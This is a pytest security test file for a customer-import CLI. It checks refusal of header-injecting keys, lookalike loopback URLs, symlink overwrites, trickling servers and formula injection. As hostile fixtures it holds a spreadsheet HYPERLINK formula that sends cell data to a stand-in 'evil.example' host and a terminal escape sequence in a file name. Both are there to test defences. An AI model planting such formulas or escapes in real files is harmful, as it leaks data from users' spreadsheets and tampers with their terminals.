"""A hostile world: keys that are not header values, lookalike hosts, reports aimed at inputs,
servers that trickle or hang, answers that are not kelviq's, files that are not what they seem.

Each test is one case an outside battery found; each says what it relies on.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import httpx
import openpyxl
import pytest
import respx

from importer.config import ImportConfig, RetryPolicy
from importer.errors import RunAborted, UsageError
from importer.journal import Journal
from importer.pipeline import run_import
from importer.readers import open_table
from importer.sandbox import SandboxOptions, SandboxServer
from tests.helpers import SAMPLE, Dialect, RawServer, read_csv, write

pytestmark = pytest.mark.e2e  # whole runs: left out of `make test-fast`

KEY = "sandbox-demo-key"


def cli(
    *args: str, env: dict[str, str] | None = None, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "importer", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), **(env or {})},
    )


def small_csv(tmp_path: Path, n: int = 5) -> Path:
    return write(tmp_path / "small.csv", "id,name\n" + "".join(f"s{i},Name {i}\n" for i in range(n)))


def everything_written(*roots: Path) -> str:
    text = []
    for root in roots:
        for path in root.rglob("*"):
            if path.is_file():
                text.append(path.read_text(encoding="utf-8", errors="replace"))
    return "\n".join(text)


# --- high -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key", ["sk_live_SECRET42\nX-Injected: 1", "sk_live_SECRÉT42", "sk live SECRET42", "sk\x01ctrl SECRET42"]
)
def test_a_key_that_cannot_be_a_header_value_is_refused_without_showing_it(tmp_path: Path, key: str) -> None:
    log = tmp_path / "run.log"
    with SandboxServer() as server:
        result = cli(
            "run", str(small_csv(tmp_path)), "--base-url", server.base_url,
            "--report-dir", str(tmp_path / "r"), "--log-file", str(log), "-vv",
            env={"KELVIQ_API_KEY": key},
        )  # fmt: skip
        assert server.app.requests["total"] == 0
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "cannot be sent in an HTTP header" in lines[0]
    for part in ("SECRET42", "SECRÉT42"):
        assert part not in result.stdout + result.stderr + everything_written(tmp_path)
    assert not (tmp_path / "r").exists()  # refused before anything started


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1.example.com/api/v1",
        "http://localhost.example.com/api/v1",
        "http://127.0.0.1@evil.test/api/v1",
    ],
)
def test_plain_http_is_for_real_loopback_only(url: str) -> None:
    with pytest.raises(UsageError):
        ImportConfig(input=Path("x.csv"), api_key="k", base_url=url)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8765/api/v1",
        "http://127.9.9.9/api/v1",
        "http://[::1]:80/api/v1",
        "http://localhost/api/v1",
    ],
)
def test_real_loopback_addresses_may_use_plain_http(url: str) -> None:
    ImportConfig(input=Path("x.csv"), api_key="k", base_url=url)


def test_credentials_in_the_base_url_are_refused_without_echoing_them(tmp_path: Path) -> None:
    result = cli(
        "run", str(small_csv(tmp_path)), "--base-url", "https://user:hunter2@api.example.test/api/v1",
        "--report-dir", str(tmp_path / "r"), env={"KELVIQ_API_KEY": "k-1"},
    )  # fmt: skip
    assert result.returncode == 2 and "user name or password" in result.stderr
    assert "hunter2" not in result.stdout + result.stderr and not (tmp_path / "r").exists()


def test_feeding_failed_csv_back_into_its_own_report_directory_keeps_it(tmp_path: Path) -> None:
    rep = tmp_path / "rep"
    first = cli("validate", str(SAMPLE / "customers.csv"), "--report-dir", str(rep), "--quiet")
    assert first.returncode == 1
    failed = rep / "failed.csv"
    before = failed.read_bytes()
    again = cli("run", str(failed), "--report-dir", str(rep), "--dry-run")
    assert again.returncode == 2 and "would overwrite" in again.stderr and str(failed) in again.stderr
    assert failed.read_bytes() == before  # not truncated, not touched


def test_a_log_file_that_is_the_input_is_refused(tmp_path: Path) -> None:
    source = small_csv(tmp_path)
    before = source.read_bytes()
    result = cli("validate", str(source), "--log-file", str(source), "--report-dir", str(tmp_path / "r"))
    assert result.returncode == 2 and "--log-file" in result.stderr
    assert source.read_bytes() == before


def test_report_files_are_never_written_through_a_planted_symlink(tmp_path: Path) -> None:
    victim = write(tmp_path / "victim.txt", "precious\n")
    rep = tmp_path / "rep"
    rep.mkdir()
    (rep / "results.csv").symlink_to(victim)
    result = cli("validate", str(small_csv(tmp_path)), "--report-dir", str(rep))
    assert result.returncode != 0 and "symbolic link" in result.stderr
    assert victim.read_text() == "precious\n"


@pytest.fixture
def trickle() -> Iterator[RawServer]:
    """A server that answers headers at once, then one byte of body a second, forever."""
    done = threading.Event()

    def answer(conn: socket.socket) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n")
        while not done.is_set():
            conn.sendall(b" ")
            done.wait(1)

    server = RawServer(answer)
    yield server
    done.set()
    server.close()


def test_timeout_bounds_the_whole_request_even_when_the_body_trickles(
    trickle: RawServer, tmp_path: Path
) -> None:
    """Relies on nothing of kelviq's: a server that never finishes its answer."""
    started = time.monotonic()
    result = cli(
        "run", str(small_csv(tmp_path, 1)), "--base-url", f"{trickle.url}/api/v1",
        "--timeout", "2", "--retries", "0", "--report-dir", str(tmp_path / "r"),
        env={"KELVIQ_API_KEY": "k-1"}, timeout=60,
    )  # fmt: skip
    assert time.monotonic() - started < 15
    assert result.returncode == 3 and "timeout after 2 s" in result.stderr


def test_sigterm_ends_a_run_stuck_on_a_trickling_answer_within_seconds(
    trickle: RawServer, tmp_path: Path
) -> None:
    proc = subprocess.Popen(
        [sys.executable, "-m", "importer", "run", str(small_csv(tmp_path, 3)), "--base-url",
         f"{trickle.url}/api/v1", "--timeout", "600", "--report-dir", str(tmp_path / "r")],
        env={"PATH": os.environ.get("PATH", ""), "KELVIQ_API_KEY": "k-1"},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 30
    while trickle.requests == 0 and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.5)
    sent = time.monotonic()
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=30)
    assert time.monotonic() - sent < 8, "SIGTERM must end the run within a few seconds"
    assert proc.returncode == 143 and "Traceback" not in err
    results = read_csv(tmp_path / "r" / "results.csv")
    assert len(results) == 3 and {r["status"] for r in results} == {"not_sent"}


def test_after_sigterm_no_retry_is_sent(tmp_path: Path) -> None:
    """Relies on: 503 with Retry-After (the sandbox answers every write 503 here)."""
    with SandboxServer(SandboxOptions(fault_rate=1.0, seed=2)) as server:
        proc = subprocess.Popen(
            [sys.executable, "-m", "importer", "run", str(small_csv(tmp_path, 40)), "--base-url",
             server.base_url, "--rate", "0", "--retries", "50", "--report-dir", str(tmp_path / "r")],
            env={"PATH": os.environ.get("PATH", ""), "KELVIQ_API_KEY": KEY},
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        deadline = time.monotonic() + 30
        while server.app.requests["POST"] < 20 and time.monotonic() < deadline:
            time.sleep(0.02)
        proc.send_signal(signal.SIGTERM)
        sent_at_signal = server.app.requests["POST"]
        _, err = proc.communicate(timeout=30)
        time.sleep(0.3)
        assert proc.returncode == 143, err
        assert server.app.requests["POST"] <= sent_at_signal + 8  # at most what was already in flight
    statuses = {r["status"] for r in read_csv(tmp_path / "r" / "results.csv")}
    assert statuses <= {"not_sent", "failed"} and "not_sent" in statuses


# --- medium -----------------------------------------------------------------------------------


def test_server_values_are_neutralised_in_csv_outputs_and_input_values_are_not(
    tmp_path: Path, no_sleep
) -> None:  # type: ignore[no-untyped-def]
    """Relies on: a create answered with the server's own id (any string)."""
    evil_id = '=HYPERLINK("http://evil.example/"&A1,"x")'
    source = write(tmp_path / "in.csv", "id,name\n+cmd,@SUM(1)\nok,Fine\n")
    base = "https://api.example.test/api/v1"
    with respx.mock(assert_all_called=False) as api:
        api.get(f"{base}/customers/").mock(return_value=httpx.Response(200, json={"results": [], "count": 0}))

        def created(request: httpx.Request) -> httpx.Response:
            import json

            body = json.loads(request.content)
            if body["customerId"] == "ok":
                return httpx.Response(201, json={"id": evil_id, **body})
            return httpx.Response(400, json={"name": ["-2+3 is not allowed"]})

        api.post(f"{base}/customers/").mock(side_effect=created)
        run_import(
            ImportConfig(input=source, base_url=base, api_key="k", rate=None, report_dir=tmp_path / "r"),
            sleep=no_sleep,
        )
    results = {r["customerId"]: r for r in read_csv(tmp_path / "r" / "results.csv")}
    assert results["ok"]["kelviq_id"] == "'" + evil_id
    assert results["+cmd"]["customerId"] == "+cmd"  # the user's own value, byte for byte
    failed = read_csv(tmp_path / "r" / "failed.csv")
    assert failed[0]["id"] == "+cmd" and failed[0]["name"] == "@SUM(1)"
    for rows in (list(results.values()), failed):
        for row in rows:
            for key in ("kelviq_id", "error"):
                assert not str(row.get(key) or "").startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("mode", ["create", "upsert"])
def test_a_create_whose_answer_died_with_the_run_is_reported_created_next_time(
    dialect: Dialect, tmp_path: Path, mode: str
) -> None:
    """Relies on: a POST applied, its answer never read (the process died); then "exists"."""
    source = small_csv(tmp_path, 10)
    journal = tmp_path / "j.sqlite3"
    # Every answer lost and no retry: the journal is left holding intents, as after kill -9.
    with SandboxServer(dialect.options(lose_response_rate=1.0, seed=1)) as server:
        first = run_import(
            ImportConfig(input=source, base_url=server.base_url, api_key=KEY, rate=None, mode=mode,
                         journal=journal, report_dir=tmp_path / "a", retry=RetryPolicy(attempts=1)),
        )  # fmt: skip
        assert first.counts == {"failed": 10} and len(server.app.customers) == 10
        with Journal.open(journal, base_url=server.base_url) as j:
            assert len(j) == 0 and j.intent("s0") is not None
        server.app.options.__dict__["lose_response_rate"] = 0.0  # the network is back
        server.app.requests.clear()
        again = run_import(
            ImportConfig(input=source, base_url=server.base_url, api_key=KEY, rate=None, mode=mode,
                         journal=journal, report_dir=tmp_path / "b"),
        )  # fmt: skip
        assert again.counts == {"created": 10}
        assert server.app.requests["PATCH"] == 0  # no needless update of what we created
        assert max(server.app.creates_by_id.values()) == 1
        with Journal.open(journal, base_url=server.base_url) as j:
            assert len(j) == 10 and j.intent("s0") is None


def test_a_zero_padded_excel_number_reads_as_the_sheet_shows_it(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "zip", "ssn", "price", "plain"])
    ws.append([124, 501, 12345678, 1.5, 7])
    for ref, fmt in (("A2", "00000"), ("B2", "00000"), ("C2", "000-00-0000"), ("D2", "0.00")):
        ws[ref].number_format = fmt
    wb.save(tmp_path / "padded.xlsx")
    rows = list(open_table(tmp_path / "padded.xlsx").rows())
    assert rows[0].cells == ("00124", "00501", "012-34-5678", "1.50", "7")


def test_a_merged_header_cell_is_refused_with_its_range(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "email", "Name", None])
    ws.merge_cells("C1:D1")
    ws.append(["1", "a@example.com", "Ada", "Lovelace"])
    wb.save(tmp_path / "merged.xlsx")
    result = cli("validate", str(tmp_path / "merged.xlsx"), "--report-dir", str(tmp_path / "r"))
    assert result.returncode == 2 and "C1:D1 are merged" in result.stderr


def test_excel_values_beyond_the_header_are_a_row_problem_not_dropped(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["id", "name"])
    ws.append(["1", "Ada", "Lovelace"])
    wb.save(tmp_path / "wide.xlsx")
    rows = list(open_table(tmp_path / "wide.xlsx").rows())
    assert rows[0].problem is not None and "C2 'Lovelace'" in rows[0].problem.render()


# --- low --------------------------------------------------------------------------------------


def test_a_nul_byte_anywhere_is_refused_like_one_at_the_start(tmp_path: Path) -> None:
    body = "".join(f"{i},Name {i}\n" for i in range(5000))  # well past the first 64 KB
    source = write(tmp_path / "nul.csv", "id,name\n" + body + "late,Bad\x00Name\n")
    result = cli("validate", str(source), "--report-dir", str(tmp_path / "r"))
    assert result.returncode == 2 and "NUL byte" in result.stderr and "line 5002" in result.stderr


def test_a_symlink_loop_is_named_as_such(tmp_path: Path) -> None:
    (tmp_path / "a.csv").symlink_to(tmp_path / "b.csv")
    (tmp_path / "b.csv").symlink_to(tmp_path / "a.csv")
    result = cli("validate", str(tmp_path / "a.csv"))
    assert result.returncode == 2 and "loop of symbolic links" in result.stderr


@pytest.mark.parametrize(
    ("encoding", "says"), [("utf-16", "byte-order mark"), ("rot13", "not a text encoding")]
)
def test_impossible_encodings_are_usage_errors(tmp_path: Path, encoding: str, says: str) -> None:
    result = cli(
        "validate", str(small_csv(tmp_path)), "--encoding", encoding, "--report-dir", str(tmp_path / "r")
    )
    assert result.returncode == 2 and says in result.stderr and "internal error" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


# --- round three (issue 21) ---------------------------------------------------------------------


@pytest.mark.parametrize("offset", [150, 190, 199, 390, 399])
def test_a_key_echoed_across_a_cut_leaves_no_part_of_it_anywhere(
    tmp_path: Path, offset: int, no_sleep
) -> None:  # type: ignore[no-untyped-def]
    """Issue 21, case 3. Relies on: a server (a proxy error page, a debug endpoint) echoing
    the Authorization header in its error body, placed so that the 200/400-character cut of
    a message falls inside the key."""
    secret = "sk_live_0123456789abcdefghijklmnopqrstuvw"  # 33 characters after the prefix
    base = "https://api.example.test/api/v1"

    def echo(request: httpx.Request) -> httpx.Response:
        body = "x" * offset + f" Authorization: {request.headers['authorization']} trailing"
        status = 500 if request.method == "POST" and b"s1" in request.content else 418
        return httpx.Response(status, text=body, headers={"content-type": "text/plain"})

    source = small_csv(tmp_path, 3)
    with respx.mock(assert_all_called=False) as api:
        api.get(f"{base}/customers/").mock(
            return_value=httpx.Response(200, json={"count": 0, "next": None, "results": []})
        )
        api.post(f"{base}/customers/").mock(side_effect=echo)
        api.get(url__regex=rf"{base}/customers/s\d/").mock(side_effect=echo)
        config = ImportConfig(
            input=source,
            base_url=base,
            api_key=secret,
            rate=None,
            report_dir=tmp_path / "r",
            use_journal=False,
            retry=RetryPolicy(attempts=2, backoff_initial=0.001, backoff_max=0.001),
        )
        summary = run_import(config, sleep=no_sleep)
    assert summary.counts.get("failed") == 3
    written = everything_written(tmp_path / "r")
    assert "Authoriz" in written or offset > 190  # the echo reached the report, cut or not
    for size in range(6, len(secret) + 1):
        assert secret[:size] not in written, size


def test_scrub_takes_the_key_and_any_start_of_it() -> None:
    from importer.client import scrub

    key = "abcdefghijklmnop"
    assert scrub(f"x {key} y", key) == "x [API key] y"
    assert scrub("cut at abcdefg", key) == "cut at [API key]"
    assert scrub("short abcde stays", key) == "short abcde stays"  # 5 characters say nothing
    assert scrub("ab%2Fcdefgh!", "ab/cdefgh") == "[API key]!"  # percent-encoded


@pytest.mark.parametrize("count", [None, 10**12])
def test_a_listing_that_never_ends_is_stopped_and_said(tmp_path: Path, count: int | None, no_sleep) -> None:  # type: ignore[no-untyped-def]
    """Issue 21, case 5. Relies on: a broken listing whose ``next`` never ends (the same page
    served again), with no count or a count of 10^12."""
    from importer.verify import verify

    base = "https://api.example.test/api/v1"
    same = [{"id": f"u{i}", "customerId": f"s{i}", "name": f"Name {i}"} for i in range(3)]

    def page(request: httpx.Request) -> httpx.Response:
        number = int(request.url.params.get("page", "1"))
        body = {"count": count, "next": f"{base}/customers/?page={number + 1}", "results": same}
        return httpx.Response(200, json=body)

    source = small_csv(tmp_path, 3)
    with respx.mock(assert_all_called=False) as api:
        listing = api.get(f"{base}/customers/").mock(side_effect=page)
        api.post(f"{base}/customers/").mock(
            side_effect=lambda r: httpx.Response(201, json={"id": "u", **json.loads(r.content)})
        )
        config = ImportConfig(
            input=source, base_url=base, api_key="k-123456", rate=None, report_dir=tmp_path / "v"
        )
        with pytest.raises(RunAborted, match="listing customers did not end") as stopped:
            verify(config, sleep=no_sleep)
        assert stopped.value.exit_code == 3 and "\n" not in str(stopped.value)
        assert listing.call_count < 40
        listing.reset()
        summary = run_import(replace(config, baseline="kelviq", report_dir=tmp_path / "r"), sleep=no_sleep)
        assert "listing customers did not end" in (summary.baseline or "")
        assert listing.call_count < 40


def test_an_api_that_throttles_every_write_forever_ends_the_run_within_the_bound(tmp_path: Path) -> None:
    """Issue 21, case 6 (issue 19's bound). Relies on: an API answering every POST 429 with
    Retry-After: 1, forever; GETs (the pre-flight) answered as usual."""
    source = small_csv(tmp_path, 20)
    with SandboxServer(SandboxOptions(throttle_writes=True)) as server:
        started = time.monotonic()
        done = cli(
            "run", str(source), "--base-url", server.base_url, "--no-journal", "--stall-timeout", "0.05",
            "--report-dir", str(tmp_path / "r"), "--quiet", env={"KELVIQ_API_KEY": KEY},
        )  # fmt: skip
        took = time.monotonic() - started
    assert done.returncode == 3, done.stderr
    assert took < 20, took  # 3 s of no progress, a second to notice, 3 s of grace, start-up
    line = done.stderr.strip()
    assert "\n" not in line and "no write has succeeded" in line and "429" in line, line
    rows = read_csv(tmp_path / "r" / "results.csv")
    assert len(rows) == 20 and {r["status"] for r in rows} == {"not_sent"}


def test_an_endless_pipe_stops_at_the_bound_and_leaves_no_spool(tmp_path: Path) -> None:
    """Issue 21, case 12: an endless pipe into `run -` filled the temp disk, and a signal left
    the spool behind. No API behaviour: nothing is sent."""
    env = {"KELVIQ_API_KEY": KEY, "TMPDIR": str(tmp_path)}
    endless = subprocess.Popen(["yes", "a,b"], stdout=subprocess.PIPE)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "importer", "validate", "-", "--max-stdin-size", "2M"],
            stdin=endless.stdout, capture_output=True, text=True, timeout=60,
            env={"PATH": os.environ.get("PATH", ""), **env},
        )  # fmt: skip
    finally:
        endless.kill()
        endless.wait()
        assert endless.stdout is not None
        endless.stdout.close()
    assert done.returncode == 2 and "larger than --max-stdin-size 2M" in done.stderr, done.stderr
    assert done.stderr.count("\n") == 1
    assert not list(tmp_path.glob("kelviq-import-stdin-*"))
    # SIGTERM while the spool is being written: it is removed all the same.
    writer = subprocess.Popen(
        [sys.executable, "-m", "importer", "validate", "-"], stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={"PATH": os.environ.get("PATH", ""), **env},
    )  # fmt: skip
    assert writer.stdin is not None
    writer.stdin.write(b"id,name\n" + b"x,y\n" * 10_000)
    writer.stdin.flush()
    deadline = time.monotonic() + 20
    while not list(tmp_path.glob("kelviq-import-stdin-*")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(tmp_path.glob("kelviq-import-stdin-*"))  # spooling has begun
    writer.send_signal(signal.SIGTERM)
    writer.communicate(timeout=20)
    assert writer.returncode == 128 + signal.SIGTERM
    assert not list(tmp_path.glob("kelviq-import-stdin-*"))


def test_a_report_root_that_cannot_hold_reports_is_one_line(tmp_path: Path) -> None:
    """Issue 21, case 15: a file as --report-root was an internal error (exit 70)."""
    blocker = write(tmp_path / "afile", "x")
    for root in (blocker, blocker / "below"):
        done = cli(
            "validate", str(small_csv(tmp_path)), "--report-root", str(root), env={"KELVIQ_API_KEY": KEY}
        )
        assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
        assert f"--report-root {root}: cannot hold reports" in done.stderr


def test_runs_lists_the_good_runs_past_broken_summaries_and_fifos(tmp_path: Path) -> None:
    """Issue 21, case 16: wrong types gave an internal error, a FIFO hung, and terminal escape
    sequences in `input` were printed raw."""
    root = tmp_path / "reports"
    good = root / "20261101T000000Z"
    good.mkdir(parents=True)
    summary = {"started_at": "2026-11-01T00:00:00+00:00", "input": "evil\x1b]0;owned\x07.csv",
               "counts": {"created": 3}, "exit_code": 0, "dry_run": False}  # fmt: skip
    (good / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    bad = root / "20261102T000000Z"
    bad.mkdir()
    (bad / "summary.json").write_text(json.dumps({"counts": [1, 2], "exit_code": "x"}), encoding="utf-8")
    fifo = root / "20261103T000000Z"
    fifo.mkdir()
    os.mkfifo(fifo / "summary.json")
    done = cli("runs", "--report-root", str(root), timeout=20)
    assert done.returncode == 0, done.stderr
    assert "created 3" in done.stdout and "\x1b" not in done.stdout and "\\x1b" in done.stdout
    assert done.stderr.count("left out") == 2
